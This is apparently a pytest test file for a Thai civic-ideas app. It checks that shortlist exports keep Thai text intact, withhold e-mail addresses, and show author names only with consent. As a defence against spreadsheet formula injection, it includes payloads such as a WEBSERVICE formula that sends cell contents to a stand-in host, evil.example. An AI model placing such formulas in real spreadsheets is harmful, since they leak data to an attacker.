"""Shortlist exports (CSV, XLSX, JSON, `flask shortlists export`) read back with Thai intact, safe cells,
no e-mail addresses or user ids, and author names only with consent; the print view."""
from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from idea4gov import exports
from idea4gov.extensions import db
from idea4gov.shortlists import services
from tests.shortlist_support import TRICKY_BODY, TRICKY_TITLE, make_shortlist, world_fixture  # noqa: F401  (fixture)

FORMULA_TITLE = '=HYPERLINK("http://evil.example","คลิกที่นี่")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+66 81", "'+66 81"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("ขยะ =1+1", "ขยะ =1+1"), ("", ""), (-5, -5), (None, None),
    # Full-width and small forms a Thai keyboard or a copy from a PDF brings, spaces before them,
    # and control characters a spreadsheet skips.
    ("＝1+1", "'＝1+1"), ("＋66", "'＋66"), ("－5", "'－5"), ("＠SUM(A1)", "'＠SUM(A1)"), ("﹦1+1", "'﹦1+1"),
    ("  =1+1", "'  =1+1"), ("\u3000=1+1", "'\u3000=1+1"), ("\n=1+1", "'\n=1+1"), ("\x00=1", "'\x00=1"),
    ("a=1", "a=1"), ("๑=1", "๑=1"), ("   ", "   "),
])
def test_neutralise_quotes_only_text_that_starts_a_formula(value, expected):
    assert exports.neutralise(value) == expected


@pytest.fixture()
def exported(world, make_idea, make_user):
    """A scored shortlist with tricky Thai, a formula-looking title, and authors with and without consent."""
    consenting = make_user(email="named@example.org", display_name="สมหญิง ยินดีเปิดเผย")
    consenting.show_name_in_exports = True
    private = make_user(email="private@example.org", display_name="สมชาย ไม่เปิดเผย")
    tricky = make_idea(area=world.area, author=consenting, title=TRICKY_TITLE, body=TRICKY_BODY)
    formula = make_idea(area=world.area, author=private, title=FORMULA_TITLE,
                        body="-ลองใส่สูตรในรายละเอียด @cmd ดูว่าจะรันหรือไม่ ไม่ควรรัน")
    assert (tricky.title, tricky.body.replace("&amp;", "&")) == (TRICKY_TITLE, TRICKY_BODY)
    shortlist = make_shortlist(world, name="แฮกกาธอน ๒๕๖๙ 🇹🇭", idea_count=0)
    services.add_ideas(shortlist, [tricky.id, formula.id], world.organiser)
    impact = services.add_criterion(shortlist, "ผลกระทบ", 2, world.organiser)
    judge = make_user(email="judge@example.org")
    services.add_judge(shortlist, judge, world.organiser)
    services.save_scores(shortlist, judge, {(shortlist.items[0].id, impact.id): 5,
                                            (shortlist.items[1].id, impact.id): 2})
    shortlist.items[0].note = "โน้ต: ทีม ก. รับไปทำ ๆ"
    db.session.commit()
    return shortlist, tricky, formula


def _download(client, world, shortlist, fmt):
    client.login(world.organiser)
    response = client.get(f"/shortlists/{shortlist.id}/export.{fmt}")
    assert response.status_code == 200
    assert f'filename="shortlist-{shortlist.id}.{fmt}"' in response.headers["Content-Disposition"]
    return response


def _no_private_data(raw: bytes, user_ids):
    text = raw.decode("utf-8", errors="replace") if not raw.startswith(b"PK") else ""
    assert "@example.org" not in text and "user_id" not in text and "email" not in text.lower()


def test_csv_has_a_bom_and_reads_back_thai_exactly(client, world, exported):
    shortlist, tricky, formula = exported
    response = _download(client, world, shortlist, "csv")
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf") and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_id = {row["เลขที่ไอเดีย (idea_id)"]: row for row in rows}
    first = by_id[str(tricky.id)]
    assert first["ชื่อไอเดีย (title)"] == TRICKY_TITLE
    assert first["รายละเอียด (body)"] == TRICKY_BODY
    assert first["บันทึกของผู้จัด (note)"] == "โน้ต: ทีม ก. รับไปทำ ๆ"
    assert first["ผลกระทบ (เฉลี่ย)"] == "5.0" and first["อันดับ (rank)"] == "1"
    assert first["ผู้เสนอ (เฉพาะผู้ที่ยินยอม) (author)"] == "สมหญิง ยินดีเปิดเผย"
    assert first["ลิงก์ (url)"] == f"http://localhost/ideas/{tricky.id}"
    second = by_id[str(formula.id)]
    assert second["ชื่อไอเดีย (title)"] == "'" + FORMULA_TITLE
    assert second["รายละเอียด (body)"].startswith("'-ลองใส่สูตร")
    assert second["ผู้เสนอ (เฉพาะผู้ที่ยินยอม) (author)"] == ""
    _no_private_data(raw, [])


def test_xlsx_reads_back_thai_with_header_widths_freeze_and_links(client, world, exported):
    shortlist, tricky, formula = exported
    raw = _download(client, world, shortlist, "xlsx").data
    sheet = load_workbook(io.BytesIO(raw)).active
    header = [cell.value for cell in sheet[1]]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    col = {name: index for index, name in enumerate(header)}
    rows = {row[col["เลขที่ไอเดีย (idea_id)"]].value: row for row in sheet.iter_rows(min_row=2)}
    first = rows[tricky.id]
    assert first[col["ชื่อไอเดีย (title)"]].value == TRICKY_TITLE
    assert first[col["รายละเอียด (body)"]].value == TRICKY_BODY
    assert first[col["ผู้สนับสนุน (supporters)"]].value == 0
    link = first[col["ลิงก์ (url)"]]
    assert link.value == f"http://localhost/ideas/{tricky.id}" and link.hyperlink.target == link.value
    title_cell = rows[formula.id][col["ชื่อไอเดีย (title)"]]
    assert title_cell.value == FORMULA_TITLE and title_cell.data_type == "s"  # text, never a formula
    widths = {letter: dim.width for letter, dim in sheet.column_dimensions.items()}
    assert widths and all(2 < width <= exports.XLSX_MAX_WIDTH + 2 for width in widths.values())
    assert b"@example.org" not in raw


#: Criteria an organiser (or whoever took over their account) may name: they become column titles.
FORMULA_CRITERIA = ['=WEBSERVICE("http://evil.example/?"&A2)', "＝HYPERLINK(\"http://evil.example\")", "+1", "@SUM(A1)"]


def test_formula_like_criteria_names_are_text_in_every_header(client, world, exported):
    shortlist, _tricky, _formula = exported
    for weight, name in enumerate(FORMULA_CRITERIA, 1):
        services.add_criterion(shortlist, name, weight, world.organiser)
    db.session.commit()
    raw_csv = _download(client, world, shortlist, "csv").data.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(raw_csv, newline="")))
    for name in FORMULA_CRITERIA:
        assert f"'{name} (เฉลี่ย)" in header
    assert not [cell for cell in header if exports.starts_a_formula(cell)]
    raw_xlsx = _download(client, world, shortlist, "xlsx").data
    sheet = load_workbook(io.BytesIO(raw_xlsx)).active
    titles = {cell.value: cell for cell in sheet[1]}
    for name in FORMULA_CRITERIA:
        cell = titles[f"{name} (เฉลี่ย)"]  # the exact name, stored as text
        assert cell.data_type == "s", name
    import zipfile

    with zipfile.ZipFile(io.BytesIO(raw_xlsx)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet


def test_json_reads_back_thai_exactly_and_has_no_private_data(client, world, exported):
    shortlist, tricky, formula = exported
    raw = _download(client, world, shortlist, "json").data
    document = json.loads(raw.decode("utf-8"))
    assert document["shortlist"]["name"] == "แฮกกาธอน ๒๕๖๙ 🇹🇭"
    assert document["criteria"] == [{"name": "ผลกระทบ", "weight": 2}]
    first, second = document["items"]
    assert (first["idea_id"], first["title"], first["body"]) == (tricky.id, TRICKY_TITLE, TRICKY_BODY)
    assert first["criteria"] == {"ผลกระทบ": 5.0} and first["rank"] == 1
    assert second["title"] == FORMULA_TITLE  # JSON keeps the exact text
    assert first["author"] == "สมหญิง ยินดีเปิดเผย" and second["author"] == ""
    assert TRICKY_TITLE in raw.decode("utf-8")  # written as Thai, not \u escapes
    _no_private_data(raw, [])


def test_consent_is_given_and_withdrawn_under_account(client, world, exported):
    shortlist, tricky, _formula = exported
    author = tricky.author
    from tests.conftest import PASSWORD  # noqa: F401
    client.login(author)
    assert "ชื่อของฉันในไฟล์ส่งออก" in client.get("/account/").get_data(as_text=True)
    assert client.post("/account/export-name", {}).status_code == 302  # unchecked box: withdraw
    db.session.refresh(author)
    assert author.show_name_in_exports is False
    client.logout()
    document = json.loads(_download(client, world, shortlist, "json").data)
    assert all(item["author"] == "" for item in document["items"])
    client.logout()
    client.login(author)
    client.post("/account/export-name", {"show_name": "y"})
    db.session.refresh(author)
    assert author.show_name_in_exports is True
    assert json.loads(client.get("/account/data.json").data)["account"]["show_name_in_exports"] is True


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_cli_export_writes_the_same_file(app, runner, world, exported, tmp_path, fmt):
    shortlist, tricky, _formula = exported
    out = tmp_path / f"out.{fmt}"
    result = runner.invoke(args=["shortlists", "export", str(shortlist.id), "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "wrote" in result.output
    raw = out.read_bytes()
    if fmt == "csv":
        text = raw.decode("utf-8-sig")
        assert TRICKY_TITLE in text and TRICKY_BODY.split("\n")[0] in text
    elif fmt == "json":
        assert json.loads(raw)["items"][0]["title"] == TRICKY_TITLE
    else:
        sheet = load_workbook(io.BytesIO(raw)).active
        assert TRICKY_TITLE in [cell.value for cell in sheet["D"]]


def test_cli_export_refuses_a_missing_shortlist_and_a_bad_format(app, runner, tmp_path):
    missing = runner.invoke(args=["shortlists", "export", "999", "--format", "csv", "--out", str(tmp_path / "x")])
    assert missing.exit_code == 1 and "no shortlist 999" in missing.output
    bad = runner.invoke(args=["shortlists", "export", "1", "--format", "pdf", "--out", str(tmp_path / "x")])
    assert bad.exit_code == 2
    assert not (tmp_path / "x").exists()


def test_print_view_is_a4_with_the_scores(client, world, exported):
    shortlist, tricky, _formula = exported
    client.login(world.organiser)
    response = client.get(f"/shortlists/{shortlist.id}/print")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "css/print.css" in html and TRICKY_TITLE.replace("&", "&amp;") in html
    assert "5.00" in html and "ผลกระทบ" in html
    from pathlib import Path
    css = (Path(__file__).resolve().parent.parent / "static" / "css" / "print.css").read_text(encoding="utf-8")
    assert "size: A4" in css and "@media print" in css


def test_an_idea_hidden_after_shortlisting_is_left_out_of_exports(client, world, exported):
    from idea4gov.ideas.models import Visibility
    shortlist, tricky, formula = exported
    formula.visibility = Visibility.hidden
    db.session.commit()
    document = json.loads(_download(client, world, shortlist, "json").data)
    assert [item["idea_id"] for item in document["items"]] == [tricky.id]
    assert "ไม่ได้เผยแพร่แล้ว" in client.get(f"/shortlists/{shortlist.id}").get_data(as_text=True)
